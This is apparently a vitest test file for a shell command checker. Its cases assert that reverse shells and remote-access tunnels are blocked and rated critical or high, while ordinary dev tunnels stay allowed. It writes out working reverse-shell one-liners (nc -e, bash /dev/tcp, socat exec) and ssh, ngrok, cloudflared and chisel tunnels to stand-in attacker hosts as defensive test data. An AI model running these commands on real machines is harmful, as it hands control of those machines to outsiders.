import { describe, expect, it } from 'vitest';
import { check } from '../support/runtime.js';

// Handing this machine to someone else was allowed: a shell served over a connection (the reverse shells
// every intrusion guide lists), and tunnels that open a login or database port to another machine. Tunnels
// to a development web server, port forwards to reach a database, and plain connections stay allowed.

describe('handing control of this machine to another', () => {
  it.each([
    ['nc -e /bin/sh 203.0.113.5 4444', 'critical'],
    ['nc -lvp 4444 -e /bin/bash', 'critical'],
    ["nc -l 4444 -c 'bash -i'", 'critical'],
    ['ncat --exec /bin/bash 203.0.113.5 4444', 'critical'],
    ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'critical'],
    ['sh -i 5<> /dev/tcp/203.0.113.5/4444 0<&5 1>&5 2>&5', 'critical'],
    ["socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:4444", 'critical'],
    ['socat tcp-listen:4444,reuseaddr,fork exec:/bin/sh', 'critical'],
    ['ssh -fNR 2222:localhost:22 attacker@evil.example.com', 'high'],
    ['ssh -R 8080:localhost:22 attacker@evil.example.com', 'high'],
    ['ssh -R 0.0.0.0:15432:localhost:5432 jump@example.com', 'high'],
    // autossh is ssh kept alive: its own -M port aside, the same words.
    ['autossh -M 0 -f -N -R 0.0.0.0:15432:localhost:5432 ops@jump.example.com', 'high'],
    ['autossh -M20000 -fNR 2222:localhost:22 attacker@evil.example.com', 'high'],
    ['ngrok tcp 22', 'high'],
    ['ngrok tcp 5432', 'high'],
    ['cloudflared tunnel --url ssh://localhost:22', 'high'],
    ['cloudflared tunnel --url tcp://localhost:3389', 'high'],
    ['bore local 22 --to bore.pub', 'high'],
  ] as const)('%s is not allowed (%s)', async (command, risk) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
    expect(r.assessment.risk).toBe(risk);
    expect(r.assessment.effects.some((e) => e.category === 'remote-access')).toBe(true);
  });

  it.each([
    'ngrok http 3000',
    'cloudflared tunnel --url http://localhost:3000',
    'ssh -R 9000:localhost:3000 dev@box.example.com',
    'autossh -M 0 -f -N -L 5433:db.prod.internal:5432 bastion.prod',
    'ssh -L 5432:db.internal:5432 bastion.example.com',
    'ssh -D 1080 bastion.example.com',
    'nc -zv db.internal 5432',
    'echo PING | nc localhost 6379',
    'socat - tcp:localhost:8080',
    'bash -c "echo ok"',
  ])('%s stays allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
  });
});

describe('chisel reverse remotes', () => {
  it.each([
    'chisel client 203.0.113.7:8080 R:2222:127.0.0.1:22',
    'chisel client https://relay.example.com R:socks',
  ])('%s opens this machine to the server', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome).not.toBe('allow');
    expect(r.assessment.effects.some((e) => e.category === 'remote-access')).toBe(true);
  });

  it.each(['chisel client relay:8080 R:8000:localhost:3000', 'chisel server --reverse --port 8080'])(
    '%s stays allowed',
    async (command) => {
      expect((await check(command)).decision.outcome).toBe('allow');
    },
  );
});
